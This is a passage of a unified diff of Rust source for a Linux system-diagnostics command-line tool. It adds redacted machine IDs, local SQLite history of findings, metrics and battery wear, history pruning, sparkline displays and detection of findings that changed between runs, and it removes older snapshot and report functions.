+    if !redact {
+        return Some(id.to_string());
+    }
+    if id.len() != 32 || !id.is_ascii() {
+        return None;
     }
+    let key: Vec<u8> = (0..id.len())
+        .step_by(2)
+        .map(|idx| u8::from_str_radix(&id[idx..idx + 2], 16).ok())
+        .collect::<Option<_>>()?;
+    let tag = ring::hmac::sign(
+        &ring::hmac::Key::new(ring::hmac::HMAC_SHA256, &key),
+        &MACHINE_ID_APP,
+    );
+    let mut app_id = [0u8; 16];
+    app_id.copy_from_slice(&tag.as_ref()[..16]);
+    // Version 4, variant 1, like sd_id128_get_machine_app_specific
+    app_id[6] = (app_id[6] & 0x0f) | 0x40;
+    app_id[8] = (app_id[8] & 0x3f) | 0x80;
+    Some(app_id.iter().map(|byte| format!("{byte:02x}")).collect())
 }
 
-fn print_section(title: &str, section: SectionResult) {
-    println!("\n{}", title.bold());
-    match section {
-        Ok(lines) if !lines.is_empty() => {
-            for line in lines {
-                println!("  {}", stylize_insight(&line));
-            }
-        }
-        Ok(_) => println!("  {}", t!("diag_section_no_entries").to_string().dimmed()),
-        Err(message) => println!("  {}", message.dimmed()),
-    }
+fn read_machine_id(redact: bool) -> Option<String> {
+    MACHINE_ID_PATHS
+        .iter()
+        .filter_map(|path| fs::read_to_string(path).ok())
+        .find_map(|raw| host_machine_id(&raw, redact))
 }
 
-fn truncate(text: &str, max: usize) -> String {
-    let mut out = String::new();
-    for (idx, ch) in text.chars().enumerate() {
-        if idx >= max.saturating_sub(1) {
-            out.push('…');
-            return out;
-        }
-        out.push(ch);
-    }
-    out
+/// `--no-history` and `history = false` always win; JSON runs (scripts, CI)
+/// only write history when the config sets `history = true`
+fn history_enabled(no_history: bool, json: bool, configured: Option<bool>) -> bool {
+    !no_history && configured.unwrap_or(!json)
 }
 
-fn filter_show(category: &str, findings: &[Finding]) {
-    println!("{}", format!("== {category} ==").bold());
-    if findings.is_empty() {
-        println!("{}", t!("all_good").to_string().green());
-        return;
-    }
-    print_findings_table(findings);
+/// Findings `log_to_history` stores: not from a `history = false` rule and at
+/// least `history_min_severity`
+fn history_worthy(
+    findings: &[Finding],
+    rules: &[(Trigger, Rule)],
+    min_severity: u8,
+) -> Vec<Finding> {
+    findings
+        .iter()
+        .filter(|finding| finding.severity_value >= min_severity)
+        .filter(|finding| {
+            rules
+                .iter()
+                .find(|(_, rule)| rule.name == finding.rule_name)
+                .map_or(true, |(_, rule)| rule.history)
+        })
+        .cloned()
+        .collect()
 }
 
-fn show_dashboard(findings: &[Finding], metrics: &Metrics) {
-    println!("{}", t!("dashboard_header").to_string().bold().cyan());
-    let uptime = Duration::from_secs(System::uptime());
-    let net = read_total_network_received().unwrap_or(0);
-    println!(
-        "| System: {} | Uptime: {:?} | Net: {} bytes down | Disk: {:.1}% | CPU: {:.1}% | RAM: {:.1}% |",
-        whoami::distro().bold(),
-        uptime,
-        net,
-        metrics.disk_full_percent,
-        metrics.cpu_usage,
-        metrics.mem_usage
-    );
-    println!("{}", "╰──────────────────────╯\n".cyan());
-
-    // Check for missing critical tools
-    let missing = deps::check_missing_critical_tools();
-    if !missing.is_empty() {
-        println!("{}", t!("missing_tools_header").yellow().bold());
-        for (tool, i18n_key) in missing {
-            println!("   {} — {}", tool.yellow(), t!(i18n_key).dimmed());
-        }
-        println!(
-            "   {}\n",
-            t!("missing_tools_footer")
-                .replace("{cmd}", "why check-deps")
-                .cyan()
-        );
+fn log_to_history(
+    db_path: &Path,
+    findings: &[Finding],
+    rules: &[(Trigger, Rule)],
+    metrics: &Metrics,
+    complete: bool,
+) -> Result<()> {
+    if let Some(parent) = db_path.parent() {
+        fs::create_dir_all(parent).context("Unable to create cache directory")?;
+    }
+    let mut conn = open_history_db(db_path)?;
+    // Clean runs are recorded too, so --only-changed can tell what resolved;
+    // a run that skipped probes would report their findings as resolved
+    if complete {
+        record_run(&conn, findings)?;
+    }
+    record_metrics(&conn, &Utc::now().to_rfc3339(), metrics)?;
+    if let Some(capacity) = read_battery_capacity(Path::new(POWER_SUPPLY_DIR)) {
+        record_battery_capacity(&conn, &Utc::now().to_rfc3339(), capacity)?;
+    }
+    let retention_days = config::config().history_retention_days;
+    if retention_days > 0 {
+        prune_history(&conn, history_cutoff(Utc::now(), retention_days))?;
     }
-
     if findings.is_empty() {
-        println!("{}", t!("all_good").to_string().green().bold());
-        return;
+        return Ok(());
+    }
+    let worthy = history_worthy(findings, rules, config::config().history_min_severity);
+    let limit = config::config().history_limit.min(worthy.len());
+    insert_history(&mut conn, &worthy[..limit])?;
+    if config::config().telemetry {
+        record_rule_hits(&mut conn, findings)?;
     }
+    Ok(())
+}
 
-    print_findings_table(findings);
-    println!("\n{}", t!("dashboard_tip"));
+fn record_run(conn: &Connection, findings: &[Finding]) -> Result<()> {
+    let finding_ids: Vec<&str> = findings.iter().map(|f| f.id.as_str()).collect();
+    let finding_ids = serde_json::to_string(&finding_ids).context("Failed to serialize run")?;
+    conn.execute(
+        "INSERT INTO runs(ts, finding_ids) VALUES (?1, ?2)",
+        params![Utc::now().to_rfc3339(), finding_ids],
+    )
+    .context("Unable to record run")?;
+    conn.execute(
+        "DELETE FROM runs WHERE rowid NOT IN (SELECT rowid FROM runs ORDER BY rowid DESC LIMIT ?1)",
+        params![HISTORY_RUNS_KEPT],
+    )
+    .context("Unable to prune runs")?;
+    Ok(())
 }
 
-fn show_crashes() -> Result<()> {
-    let logs = recent_logs().ok_or_else(|| anyhow!("No logs available"))?;
-    let errors: Vec<&str> = logs
-        .lines()
-        .filter(|line| {
-            line.contains("panic") || line.contains("error") || line.contains("segfault")
-        })
-        .take(20)
-        .collect();
-    if errors.is_empty() {
-        println!("{}", t!("no_recent_crashes").to_string().green());
-    } else {
-        println!("{}", t!("recent_crashes_header").to_string().bold());
-        for line in errors {
-            println!("• {}", line);
-        }
+fn history_cutoff(now: DateTime<Utc>, days: u32) -> DateTime<Utc> {
+    now - chrono::Duration::days(i64::from(days))
+}
+
+/// Tables with one row per run or finding, all keyed by a `ts` column
+const HISTORY_TIMED_TABLES: &[&str] = &["findings", "metrics", "battery", "runs"];
+
+/// Delete rows logged before `cutoff` and return how many went. Rows are
+/// written with `to_rfc3339()` in UTC, so string order is time order.
+/// VACUUM only runs after large deletes: it rewrites the whole file.
+fn prune_history(conn: &Connection, cutoff: DateTime<Utc>) -> Result<usize> {
+    let cutoff = cutoff.to_rfc3339();
+    let mut removed = 0;
+    for table in HISTORY_TIMED_TABLES {
+        removed += conn
+            .execute(
+                &format!("DELETE FROM {table} WHERE ts < ?1"),
+                params![cutoff],
+            )
+            .context("Unable to prune history")?;
+    }
+    if removed >= HISTORY_VACUUM_ROWS {
+        conn.execute("VACUUM", [])
+            .context("Unable to vacuum history")?;
     }
+    Ok(removed)
+}
+
+fn prune_history_command(days: u32) -> Result<()> {
+    let path = history_db_path();
+    let line = if path.exists() {
+        let conn = open_history_db(&path)?;
+        let removed = prune_history(&conn, history_cutoff(Utc::now(), days))?;
+        InsightLine {
+            level: InsightLevel::Good,
+            message: t!("history_pruned")
+                .replace("{count}", &removed.to_string())
+                .replace("{days}", &days.to_string()),
+        }
+    } else {
+        no_history_line()
+    };
+    print_section(&t!("history_header"), Ok(vec![line]));
     Ok(())
 }
 
-fn show_historical() -> Result<()> {
-    let mut path = user_home_dir().ok_or_else(|| anyhow!("Home not found"))?;
-    path.push(HISTORY_DIR);
-    path.push(HISTORY_FILE);
-    if !path.exists() {
-        println!("{}", t!("no_history").to_string().yellow());
-        return Ok(());
-    }
-    let conn = Connection::open(path).context("Unable to open history database")?;
-    let mut stmt = conn
-        .prepare("SELECT ts, severity, message FROM findings ORDER BY ts DESC LIMIT 20")
-        .context("Unable to read history")?;
-    let mut rows = stmt.query([])?;
-    println!("{}", t!("history_header").to_string().bold());
-    while let Some(row) = rows.next()? {
-        let ts: String = row.get(0)?;
-        let severity: String = row.get(1)?;
-        let message: String = row.get(2)?;
-        println!("[{ts}] {severity} — {message}");
+fn no_history_line() -> InsightLine {
+    InsightLine {
+        level: InsightLevel::Warning,
+        message: t!("no_history").to_string(),
     }
+}
+
+/// One row per run; a field the run did not measure (CPU not sampled, no
+/// sensors probe, no GPU) is NULL, and `metric_history` skips it
+fn record_metrics(conn: &Connection, timestamp: &str, metrics: &Metrics) -> Result<()> {
+    conn.execute(
+        "INSERT INTO metrics(ts, cpu, mem, disk, temperature, gpu_temp)
+         VALUES (?1, ?2, ?3, ?4, ?5, ?6)",
+        params![
+            timestamp,
+            metrics.cpu_usage,
+            metrics.mem_usage,
+            metrics.disk_full_percent,
+            metrics.temperature_c,
+            metrics.gpu.as_ref().and_then(|gpu| gpu.temperature),
+        ],
+    )
+    .context("Unable to record metrics")?;
+    conn.execute(
+        "DELETE FROM metrics WHERE rowid NOT IN (SELECT rowid FROM metrics ORDER BY rowid DESC LIMIT ?1)",
+        params![HISTORY_METRICS_KEPT],
+    )
+    .context("Unable to prune metrics")?;
     Ok(())
 }
 
-fn generate_snapshot(metrics: &Metrics, findings: &[Finding]) -> Result<()> {
-    use chrono::Utc;
-    use std::process::Command;
+/// Store (full, design) capacity once per day: wear moves over months, and
+/// the first run of the day is enough to follow it
+fn record_battery_capacity(
+    conn: &Connection,
+    timestamp: &str,
+    (full, design): (f64, f64),
+) -> Result<()> {
+    conn.execute(
+        "INSERT INTO battery(ts, capacity_full, capacity_design)
+         SELECT ?1, ?2, ?3
+         WHERE NOT EXISTS (SELECT 1 FROM battery WHERE substr(ts, 1, 10) = substr(?1, 1, 10))",
+        params![timestamp, full, design],
+    )
+    .context("Unable to record battery capacity")?;
+    conn.execute(
+        "DELETE FROM battery WHERE rowid NOT IN (SELECT rowid FROM battery ORDER BY rowid DESC LIMIT ?1)",
+        params![HISTORY_BATTERY_KEPT],
+    )
+    .context("Unable to prune battery history")?;
+    Ok(())
+}
 
-    // Gather system metadata
-    let timestamp = Utc::now().to_rfc3339();
-    let hostname = whoami::devicename();
-    let kernel = run_cmd_c_locale("uname", &["-r"]).unwrap_or_else(|| "unknown".to_string());
-    let distro = whoami::distro().to_string();
-    let uptime_seconds = System::uptime();
+/// Recorded (timestamp, full, design) capacities, oldest first
+fn battery_history(conn: &Connection) -> Result<Vec<(String, f64, f64)>> {
+    let mut stmt = conn
+        .prepare("SELECT ts, capacity_full, capacity_design FROM battery ORDER BY rowid")
+        .context("Unable to read battery history")?;
+    let rows = stmt
+        .query_map([], |row| Ok((row.get(0)?, row.get(1)?, row.get(2)?)))?
+        .collect::<rusqlite::Result<_>>()?;
+    Ok(rows)
+}
 
-    // Gather recent logs (last 100 lines)
-    let recent_dmesg = Command::new("dmesg").output().ok().and_then(|out| {
-        if out.status.success() {
-            Some(
-                String::from_utf8_lossy(&out.stdout)
-                    .lines()
-                    .rev()
-                    .take(100)
-                    .map(|s| s.to_string())
-                    .collect::<Vec<_>>(),
-            )
-        } else {
-            None
-        }
-    });
+/// Capacity lost against the design capacity, in percent
+fn battery_wear_percent(full: f64, design: f64) -> f64 {
+    (1.0 - full / design) * 100.0
+}
 
-    let recent_journal = Command::new("journalctl")
-        .args(["-n", "100", "--no-pager"])
-        .output()
-        .ok()
-        .and_then(|out| {
-            if out.status.success() {
-                Some(
-                    String::from_utf8_lossy(&out.stdout)
-                        .lines()
-                        .map(|s| s.to_string())
-                        .collect::<Vec<_>>(),
-                )
-            } else {
-                None
-            }
-        });
+/// First and last recorded wear of `why battery --history`
+#[derive(Debug, PartialEq)]
+struct BatteryWearTrend {
+    first_ts: String,
+    first_wear: f64,
+    last_ts: String,
+    last_wear: f64,
+    /// Wear gained per 30 days, once the records span at least that long
+    per_month: Option<f64>,
+}
 
-    // Track what's included for summary
-    let has_dmesg = recent_dmesg.is_some();
-    let has_journal = recent_journal.is_some();
+/// Rows with a design capacity to measure wear against
+fn usable_battery_rows(rows: &[(String, f64, f64)]) -> Vec<&(String, f64, f64)> {
+    rows.iter().filter(|(_, _, design)| *design > 0.0).collect()
+}
 
-    // Build snapshot
-    let snapshot = SnapshotData {
-        timestamp: timestamp.clone(),
-        hostname: hostname.clone(),
-        kernel,
-        distro,
-        uptime_seconds,
-        metrics: Metrics {
-            cpu_usage: metrics.cpu_usage,
-            mem_usage: metrics.mem_usage,
-            total_ram_mb: metrics.total_ram_mb,
-            disk_full_percent: metrics.disk_full_percent,
-            filesystem: metrics.filesystem.clone(),
-            snap_loops: metrics.snap_loops,
-            flatpak_unused: metrics.flatpak_unused,
-            battery_drain_w: metrics.battery_drain_w,
-            wifi_channel_count: metrics.wifi_channel_count,
-            wifi_signal_dbm: metrics.wifi_signal_dbm,
-            fan_speed_rpm: metrics.fan_speed_rpm,
-            temperature_c: metrics.temperature_c,
-            wayland_vs_x11: metrics.wayland_vs_x11.clone(),
-            docker_dangling: metrics.docker_dangling,
-            process_names: metrics.process_names.clone(),
-            process_count: metrics.process_count,
-            pipewire_latency_ms: metrics.pipewire_latency_ms,
-            firefox_soft_render: metrics.firefox_soft_render,
-            zfs_arc_full_percent: metrics.zfs_arc_full_percent,
-            luks_device_count: metrics.luks_device_count,
-            gpu: metrics.gpu.clone(),
-            prime_offload_enabled: metrics.prime_offload_enabled,
-            gamescope_running: metrics.gamescope_running,
-            steam_running: metrics.steam_running,
-            proton_failure_detected: metrics.proton_failure_detected,
-            vulkan_loader_missing: metrics.vulkan_loader_missing,
-        },
-        findings: findings.to_vec(),
-        recent_dmesg,
-        recent_journal,
+fn battery_wear_trend(rows: &[(String, f64, f64)]) -> Option<BatteryWearTrend> {
+    let usable = usable_battery_rows(rows);
+    let (first_ts, first_full, first_design) = usable.first()?;
+    let (last_ts, last_full, last_design) = usable.last()?;
+    let first_wear = battery_wear_percent(*first_full, *first_design);
+    let last_wear = battery_wear_percent(*last_full, *last_design);
+    let days = match (
+        DateTime::parse_from_rfc3339(first_ts),
+        DateTime::parse_from_rfc3339(last_ts),
+    ) {
+        (Ok(first), Ok(last)) => (last - first).num_days(),
+        _ => 0,
     };
+    Some(BatteryWearTrend {
+        first_ts: first_ts.clone(),
+        first_wear,
+        last_ts: last_ts.clone(),
+        last_wear,
+        per_month: (days >= 30).then(|| (last_wear - first_wear) * 30.0 / days as f64),
+    })
+}
 
-    // Generate JSON
-    let json = serde_json::to_string_pretty(&snapshot).context("Failed to serialize snapshot")?;
+fn show_battery_history() -> Result<()> {
+    let path = history_db_path();
+    let rows = if path.exists() {
+        battery_history(&open_history_db(&path)?)?
+    } else {
+        Vec::new()
+    };
+    let usable = usable_battery_rows(&rows);
+    let title = t!("battery_history_header").replace("{count}", &usable.len().to_string());
+    let Some(trend) = battery_wear_trend(&rows) else {
+        let message = if path.exists() {
+            t!("battery_history_empty")
+        } else {
+            t!("no_history")
+        };
+        let line = InsightLine {
+            level: InsightLevel::Warning,
+            message: message.to_string(),
+        };
+        print_section(&title, Ok(vec![line]));
+        return Ok(());
+    };
+    let points: Vec<u64> = usable
+        .iter()
+        .map(|(_, full, design)| battery_wear_percent(*full, *design).max(0.0) as u64)
+        .collect();
+    let info = |message: String| InsightLine {
+        level: InsightLevel::Info,
+        message,
+    };
+    let mut lines = vec![
+        info(text_sparkline(&points)),
+        info(
+            t!("battery_history_first")
+                .replace("{ts}", &trend.first_ts)
+                .replace("{wear}", &format!("{:.1}", trend.first_wear)),
+        ),
+        info(
+            t!("battery_history_last")
+                .replace("{ts}", &trend.last_ts)
+                .replace("{wear}", &format!("{:.1}", trend.last_wear)),
+        ),
+    ];
+    lines.push(match trend.per_month {
+        Some(rate) => info(t!("battery_history_rate").replace("{rate}", &format!("{rate:+.2}"))),
+        None => info(t!("battery_history_short").to_string()),
+    });
+    print_section(&title, Ok(lines));
+    Ok(())
+}
 
-    let filename = format!("why-snapshot-{}.json", timestamp.replace(':', "-"));
-    fs::write(&filename, &json).with_context(|| format!("Failed to write {}", filename))?;
+/// The last `limit` recorded values of `metric`, oldest first; runs where it
+/// was not gathered (no sensor, no GPU) are skipped
+fn metric_history(
+    conn: &Connection,
+    metric: HistoryMetric,
+    limit: u32,
+) -> Result<Vec<(String, f64)>> {
+    let column = metric.column();
+    let mut stmt = conn
+        .prepare(&format!(
+            "SELECT ts, {column} FROM metrics WHERE {column} IS NOT NULL ORDER BY rowid DESC LIMIT ?1"
+        ))
+        .context("Unable to read metric history")?;
+    let mut rows: Vec<(String, f64)> = stmt
+        .query_map(params![limit], |row| Ok((row.get(0)?, row.get(1)?)))?
+        .collect::<rusqlite::Result<_>>()?;
+    rows.reverse();
+    Ok(rows)
+}
 
-    println!("{}", t!("snapshot_generated").green().bold());
-    println!();
-    println!("{}  {}", t!("snapshot_json_label").bold(), filename.cyan());
-    println!(
-        "{}     {}",
-        t!("snapshot_size_label").dimmed(),
-        format!("{} bytes", json.len()).dimmed()
-    );
-    println!();
-    println!("{}", t!("snapshot_includes").bold());
-    println!("  • {}", t!("snapshot_metadata"));
-    println!("  • {}", t!("snapshot_metrics"));
-    println!(
-        "  • {}",
-        t!("snapshot_findings_count").replace("{count}", &findings.len().to_string())
-    );
-    if has_dmesg {
-        println!("  • {}", t!("snapshot_dmesg"));
-    }
-    if has_journal {
-        println!("  • {}", t!("snapshot_journal"));
-    }
-    println!();
-    println!("{}", t!("snapshot_attach_tip").dimmed());
+/// Bars scaled to the largest value, like the ratatui sparklines of `--watch`
+fn text_sparkline(values: &[u64]) -> String {
+    const BARS: [char; 8] = ['▁', '▂', '▃', '▄', '▅', '▆', '▇', '█'];
+    let max = values.iter().copied().max().unwrap_or(0).max(1);
+    values
+        .iter()
+        .map(|value| BARS[((value * (BARS.len() as u64 - 1)) / max) as usize])
+        .collect()
+}
 
+fn show_metric_history(metric: HistoryMetric) -> Result<()> {
+    let path = history_db_path();
+    let rows = if path.exists() {
+        metric_history(&open_history_db(&path)?, metric, HISTORY_METRIC_POINTS)?
+    } else {
+        Vec::new()
+    };
+    let title = t!("history_metric_header")
+        .replace("{metric}", metric.column())
+        .replace("{count}", &rows.len().to_string());
+    let (Some((first_ts, _)), Some((last_ts, latest))) = (rows.first(), rows.last()) else {
+        print_section(&title, Ok(vec![no_history_line()]));
+        return Ok(());
+    };
+    let values: Vec<f64> = rows.iter().map(|(_, value)| *value).collect();
+    let min = values.iter().copied().fold(f64::INFINITY, f64::min);
+    let max = values.iter().copied().fold(f64::NEG_INFINITY, f64::max);
+    let unit = metric.unit();
+    // Same u64 points the --watch history keeps
+    let points: Vec<u64> = values.iter().map(|value| *value as u64).collect();
+    let info = |message: String| InsightLine {
+        level: InsightLevel::Info,
+        message,
+    };
+    let lines = vec![
+        info(text_sparkline(&points)),
+        info(format!("{first_ts} → {last_ts}")),
+        info(
+            t!("history_metric_summary")
+                .replace("{min}", &format!("{min:.1}{unit}"))
+                .replace("{max}", &format!("{max:.1}{unit}"))
+                .replace("{latest}", &format!("{latest:.1}{unit}")),
+        ),
+    ];
+    print_section(&title, Ok(lines));
     Ok(())
 }
 
-fn why_slow(sys: &System, metrics: &Metrics, findings: &[Finding]) -> Result<()> {
-    println!("{}", t!("slow_header").to_string().bold());
-    println!();
-
-    // System vitals
-    println!(
-        "{}",
-        t!("slow_system_performance").to_string().bold().cyan()
+/// Finding IDs of the most recent logged run, None when there is none yet
+fn last_run_ids(conn: &Connection) -> Result<Option<Vec<String>>> {
+    let row = conn.query_row(
+        "SELECT finding_ids FROM runs ORDER BY rowid DESC LIMIT 1",
+        [],
+        |row| row.get::<_, String>(0),
     );
-    println!("{} {:.1}%", t!("slow_cpu_label"), metrics.cpu_usage);
-    if metrics.cpu_usage > 80.0 {
-        println!("  {} {}", "⚠️".yellow(), t!("slow_cpu_very_high"));
-    } else if metrics.cpu_usage > 60.0 {
-        println!("  {} {}", "⚠️".yellow(), t!("slow_cpu_elevated"));
-    } else {
-        println!("  {} {}", "✓".green(), t!("slow_cpu_normal"));
+    match row {
+        Ok(json) => Ok(serde_json::from_str(&json).ok()),
+        Err(rusqlite::Error::QueryReturnedNoRows) => Ok(None),
+        Err(err) => Err(err).context("Unable to read previous run"),
     }
+}
 
-    println!(
-        "{} {:.1}% ({} MB total)",
-        t!("slow_ram_label"),
-        metrics.mem_usage,
-        metrics.total_ram_mb
-    );
-    if metrics.mem_usage > 90.0 {
-        println!("  {} {}", "🔥".red(), t!("slow_ram_critical"));
-    } else if metrics.mem_usage > 75.0 {
-        println!("  {} {}", "⚠️".yellow(), t!("slow_ram_high"));
-    } else {
-        println!("  {} {}", "✓".green(), t!("slow_ram_acceptable"));
+fn previous_run_ids() -> Result<Option<Vec<String>>> {
+    let db_path = history_db_path();
+    if !db_path.exists() {
+        return Ok(None);
     }
+    last_run_ids(&open_history_db(&db_path)?)
+}
 
-    println!(
-        "{} {:.1}% full",
-        t!("slow_disk_label"),
-        metrics.disk_full_percent
-    );
-    if metrics.disk_full_percent > 90.0 {
-        println!("  {} {}", "🔥".red(), t!("slow_disk_critical"));
-    } else if metrics.disk_full_percent > 80.0 {
-        println!("  {} {}", "⚠️".yellow(), t!("slow_disk_high"));
-    } else {
-        println!("  {} {}", "✓".green(), t!("slow_disk_fine"));
-    }
+/// Keep only findings whose ID was absent last run; also return the IDs that
+/// were present last run but not now
+fn changed_findings(previous: &[String], findings: Vec<Finding>) -> (Vec<Finding>, Vec<String>) {
+    let current: Vec<String> = findings.iter().map(|f| f.id.clone()).collect();
+    let (resolved, appeared) = diff::rule_delta(previous, &current);
+    let findings = findings
+        .into_iter()
+        .filter(|f| appeared.contains(&f.id))
+        .collect();
+    (findings, resolved)
+}
 
-    println!();
+fn show_changed_findings(appeared: &[Finding], resolved: &[String], first_run: bool) {
+    println!("{}", t!("changed_header").to_string().bold());
+    if first_run {
+        println!("{}", t!("changed_first_run").to_string().yellow());
+    }
+    if appeared.is_empty() && resolved.is_empty() {
+        println!("{}", t!("changed_none").to_string().green());
+        return;
+    }
+    for finding in appeared {
+        println!(
+            "{}",
+            t!("changed_appeared")
+                .replace("{rule}", &finding.id)
+                .replace("{message}", &finding.message)
+                .red()
+        );
+    }
+    for rule in resolved {
+        println!("{}", t!("changed_resolved").replace("{rule}", rule).green());
+    }
+}
 
-    // Top CPU consumers
-    println!("{}", t!("slow_top_cpu").to_string().bold().cyan());
-    let mut cpu_procs: Vec<_> = sys
-        .processes()
-        .values()
-        .map(|p| (p.cpu_usage(), p.name().to_string()))
-        .collect();
-    cpu_procs.sort_by(|a, b| b.0.partial_cmp(&a.0).unwrap_or(std::cmp::Ordering::Equal));
-    for (usage, name) in cpu_procs.iter().take(5) {
-        if *usage > 5.0 {
-            println!("  {:<30} {:.1}%", name, usage);
+/// Open the history DB in WAL mode with a busy timeout, retrying briefly if
+/// another `why` holds the lock while switching journal mode.
+fn open_history_db(path: &Path) -> Result<Connection> {
+    let mut attempt = 1;
+    loop {
+        match try_open_history_db(path) {
+            Ok(conn) => return Ok(conn),
+            Err(err) if attempt >= HISTORY_OPEN_ATTEMPTS => {
+                return Err(err).context("Unable to open history database")
+            }
+            Err(_) => {
+                std::thread::sleep(Duration::from_millis(50 * attempt));
+                attempt += 1;
+            }
         }
     }
+}
 
-    println!();
+fn try_open_history_db(path: &Path) -> rusqlite::Result<Connection> {
+    let conn = Connection::open(path)?;
+    conn.busy_timeout(HISTORY_BUSY_TIMEOUT)?;
+    conn.query_row("PRAGMA journal_mode=WAL", [], |row| row.get::<_, String>(0))?;
+    create_history_tables(&conn)?;
+    Ok(conn)
+}
 
-    // Top RAM consumers
-    println!("{}", t!("slow_top_ram").to_string().bold().cyan());
-    let mut mem_procs: Vec<_> = sys
-        .processes()
-        .values()
-        .map(|p| (p.memory(), p.name().to_string()))
-        .collect();
-    mem_procs.sort_by(|a, b| b.0.cmp(&a.0));
-    for (mem_kb, name) in mem_procs.iter().take(5) {
-        let mem_mb = *mem_kb / 1024;
-        if mem_mb > 100 {
-            println!("  {:<30} {} MB", name, mem_mb);
-        }
+fn create_history_tables(conn: &Connection) -> rusqlite::Result<()> {
+    conn.execute(
+        "CREATE TABLE IF NOT EXISTS findings(
+            ts TEXT NOT NULL,
+            severity TEXT NOT NULL CHECK(length(severity) <= 100),
+            message TEXT NOT NULL CHECK(length(message) <= 1000),
+            solution TEXT NOT NULL CHECK(length(solution) <= 2000)
+        )",
+        [],
+    )?;
+    // Databases written before finding IDs existed lack the column
+    let has_id_column = conn
+        .prepare("SELECT 1 FROM pragma_table_info('findings') WHERE name = 'finding_id'")?
+        .exists([])?;
+    if !has_id_column {
+        conn.execute(
+            "ALTER TABLE findings ADD COLUMN finding_id TEXT CHECK(length(finding_id) <= 300)",
+            [],
+        )?;
     }
+    conn.execute(
+        "CREATE TABLE IF NOT EXISTS runs(
+            ts TEXT NOT NULL,
+            finding_ids TEXT NOT NULL
+        )",
+        [],
+    )?;
+    conn.execute(
+        "CREATE TABLE IF NOT EXISTS rule_hits(
+            rule_name TEXT PRIMARY KEY CHECK(length(rule_name) <= 200),
+            hits INTEGER NOT NULL,
+            last_seen TEXT NOT NULL
+        )",
+        [],
+    )?;
+    conn.execute(
+        "CREATE TABLE IF NOT EXISTS metrics(
+            ts TEXT NOT NULL CHECK(length(ts) <= 64),
+            cpu REAL,
+            mem REAL NOT NULL,
+            disk REAL NOT NULL,
+            temperature REAL,
+            gpu_temp REAL
+        )",
+        [],
+    )?;
+    // Capacities are µWh or µAh (see `read_battery_capacity`); only their ratio is used
+    conn.execute(
+        "CREATE TABLE IF NOT EXISTS battery(
+            ts TEXT NOT NULL CHECK(length(ts) <= 64),
+            capacity_full REAL NOT NULL,
+            capacity_design REAL NOT NULL
+        )",
+        [],
+    )?;
+    Ok(())
+}
 
-    println!();
+/// Opt-in (`telemetry = true`) local counters: only rule names and hit counts
+fn record_rule_hits(conn: &mut Connection, findings: &[Finding]) -> Result<()> {
+    let timestamp = Utc::now().to_rfc3339();
+    let tx = conn.transaction().context("Unable to start transaction")?;
+    {
+        let mut upsert = tx
+            .prepare(
+                "INSERT INTO rule_hits(rule_name, hits, last_seen) VALUES (?1, 1, ?2)
+                 ON CONFLICT(rule_name) DO UPDATE SET hits = hits + 1, last_seen = ?2",
+            )
+            .context("Unable to prepare rule hit update")?;
+        for finding in findings {
+            upsert
+                .execute(params![finding.rule_name, timestamp])
+                .context("Unable to record rule hit")?;
+        }
+    }
+    tx.commit().context("Unable to commit rule hits")
+}
 
-    // Performance-related findings
-    let perf_findings: Vec<&Finding> = findings
-        .iter()
-        .filter(|f| {
-            f.rule_name.contains("cpu")
-                || f.rule_name.contains("mem")
-                || f.rule_name.contains("disk")
-                || f.rule_name.contains("snap")
-                || f.rule_name.contains("flatpak")
-                || f.rule_name.contains("baloo")
-                || f.rule_name.contains("chrome")
-                || f.rule_name.contains("firefox")
-                || f.rule_name.contains("docker")
-                || f.rule_name.contains("swap")
-                || f.rule_name.contains("zram")
-        })
-        .collect();
+/// Rules ordered by how often they fired
+fn rule_hit_stats(conn: &Connection, limit: usize) -> Result<Vec<(String, i64)>> {
+    let mut stmt = conn
+        .prepare("SELECT rule_name, hits FROM rule_hits ORDER BY hits DESC, rule_name LIMIT ?1")
+        .context("Unable to read rule stats")?;
+    let rows = stmt
+        .query_map(params![limit as i64], |row| Ok((row.get(0)?, row.get(1)?)))?
+        .collect::<rusqlite::Result<Vec<_>>>()?;
+    Ok(rows)
+}
 
-    if !perf_findings.is_empty() {
-        println!("{}", t!("slow_issues_detected").to_string().bold().red());
-        for finding in perf_findings.iter().take(8) {
-            println!(
-                "{} {} — {}",
-                finding.severity,
-                finding.message.trim(),
-                finding.solution
-            );
+/// Insert findings in a single transaction: either all rows land or none
+fn insert_history(conn: &mut Connection, findings: &[Finding]) -> Result<()> {
+    let timestamp: DateTime<Utc> = Utc::now();
+    let tx = conn.transaction().context("Unable to start transaction")?;
+    {
+        let mut insert = tx
+            .prepare(
+                "INSERT INTO findings(ts, severity, message, solution, finding_id)
+                 VALUES (?1, ?2, ?3, ?4, ?5)",
+            )
+            .context("Unable to prepare insert")?;
+        for finding in findings {
+            insert
+                .execute(params![
+                    timestamp.to_rfc3339(),
+                    finding.severity,
+                    finding.message,
+                    finding.solution,
+                    finding.id
+                ])
+                .context("Unable to insert finding")?;
         }
-    } else {
-        println!("{}", t!("slow_all_good").to_string().green().bold());
     }
+    tx.commit().context("Unable to commit history")
+}
 
-    println!();
-    println!("{}", t!("slow_tip"));
+fn print_findings_table(findings: &[Finding]) {
+    let severity_header = t!("severity_header").to_string();
+    let diagnosis_header = t!("diagnosis_header").to_string();
+    let solution_header = t!("solution_header").to_string();
+    let line = "─".repeat(100);
+    println!(
+        "{:<12} │ {:<50} │ {}",
+        severity_header, diagnosis_header, solution_header
+    );
+    println!("{line}");
+    for finding in findings {
+        println!(
+            "{:<12} │ {} │ {}",
+            finding.severity,
+            fit_column(&finding.message, 50),
+            finding.solution
+        );
+    }
+}
 
-    Ok(())
+#[derive(Clone, Copy, serde::Serialize)]
+#[serde(rename_all = "lowercase")]
+enum InsightLevel {
+    Info,
+    Good,
+    Warning,
+    Critical,
 }
 
-fn why_wifi() -> Result<()> {
-    println!("{}", t!("wifi_header").to_string().bold());
-    if let Some(networks) = wifi_networks() {
-        println!("{} {}", t!("wifi_networks_detected"), networks.len());
-        for net in networks.iter().take(10) {
-            let state = if net.active {
-                t!("wifi_active_label").to_string().green()
-            } else {
-                t!("wifi_seen_label").to_string().yellow()
-            };
-            println!(
-                "{} | {} | {} dBm",
-                state,
-                net.channel
-                    .map(|c| format!("ch {c}"))
-                    .unwrap_or_else(|| t!("wifi_unknown_channel").into()),
-                net.signal
-                    .map(|s| format!("{s:.0}"))
-                    .unwrap_or_else(|| "?".into())
-            );
-        }
-    } else {
-        println!("{}", t!("wifi_nmcli_missing").to_string().yellow());
-    }
-    Ok(())
+#[derive(serde::Serialize)]
+struct InsightLine {
